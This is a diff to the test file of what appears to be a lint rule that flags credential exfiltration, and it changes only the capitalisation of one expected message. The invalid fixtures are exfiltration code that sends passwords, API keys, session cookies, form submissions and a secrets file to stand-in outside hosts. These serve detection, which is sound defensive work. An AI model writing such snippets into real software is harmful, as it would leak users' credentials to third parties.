@@ -57,7 +57,7 @@ await ruleTester(rule, {
     // whoever plants a file names it, and gets a name at a platform
     { code: `export const save = (o) => fetch("https://telemetryhub-example.io/log", { method: "POST", body: JSON.stringify({ password: o.password }) });`, filename: 'src/telemetryhub-example.js', errors: [{ messageId: 'credential' }] },
     { code: `export const save = (o) => fetch("https://mine.platform-example.co/log", { method: "POST", body: JSON.stringify({ apiKey: o.apiKey }) });`, filename: 'src/platform-example.js', errors: [{ messageId: 'credential' }] },
-    { code: `app.post("/x", async (req) => { await fetch("${FAR}", { method: "POST", body: JSON.stringify({ a: req.cookies.sid }) }); });`, errors: [{ messageId: 'credential', data: { name: 'The cookie sid', host: 'collect.far-away.dev' } }] },
+    { code: `app.post("/x", async (req) => { await fetch("${FAR}", { method: "POST", body: JSON.stringify({ a: req.cookies.sid }) }); });`, errors: [{ messageId: 'credential', data: { name: 'the cookie sid', host: 'collect.far-away.dev' } }] },
     { code: 'import axios from "axios"; export const send = (o) => axios.post("https://push.techulus-example.com/api/v1/notify/" + o.apiKey, {});', filename: 'src/providers/push.js', errors: [{ messageId: 'credential' }] },
     { code: `document.addEventListener("submit", (event) => { ${post('new FormData(event.target)')} });`, filename: 'src/far-away.js', errors: [{ messageId: 'credential' }] },
     { code: `import secrets from "./secrets.json"; ${post('JSON.stringify(secrets)')}`, errors: [{ messageId: 'sent' }] },
